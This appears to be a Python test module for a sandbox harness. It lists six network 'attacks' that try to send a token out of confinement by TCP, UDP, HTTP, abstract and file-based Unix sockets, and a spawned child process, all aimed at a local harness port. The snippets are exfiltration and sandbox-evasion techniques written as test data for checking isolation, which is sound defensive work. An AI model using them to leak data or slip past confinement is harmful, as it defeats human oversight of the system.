"""network"""

from ..attack import Attack

PORT = "a message at the harness's port"

ATTACKS = [
    Attack(
        "tcp",
        "Sends the answers of others to a server.",
        """
with socket.create_connection(("127.0.0.1", PORT), timeout=3) as link:
    link.sendall(TOKEN.encode())""",
        shows=PORT,
    ),
    Attack(
        "udp",
        "Sends a datagram, which needs no answer.",
        """
socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(TOKEN.encode(), ("127.0.0.1", PORT))""",
        shows=PORT,
    ),
    Attack(
        "http",
        "Asks a web server, with its token in the address.",
        """
import urllib.request
urllib.request.urlopen(f"http://localhost:{PORT}/{TOKEN}", timeout=3)""",
        shows=PORT,
    ),
    Attack(
        "abstract-socket",
        "Talks to a Unix socket that has no file.",
        """
with socket.socket(socket.AF_UNIX) as link:
    link.connect(f"\\0bow2lora-{PORT}")
    link.sendall(TOKEN.encode())""",
        shows=PORT,
    ),
    Attack(
        "socket-file",
        "Talks to a service of the machine through its socket file.",
        """
with socket.socket(socket.AF_UNIX) as link:
    link.connect(str(COURSE.parent / "service"))
    link.sendall(TOKEN.encode())""",
        shows=PORT,
    ),
    Attack(
        "child-with-network",
        "Lets a program that it starts do the talking.",
        """
subprocess.run([sys.executable, "-c", f"import socket; "
    f"socket.create_connection(('127.0.0.1', {PORT}), timeout=3).sendall({TOKEN!r}.encode())"], timeout=4)""",
        shows=PORT,
    ),
]
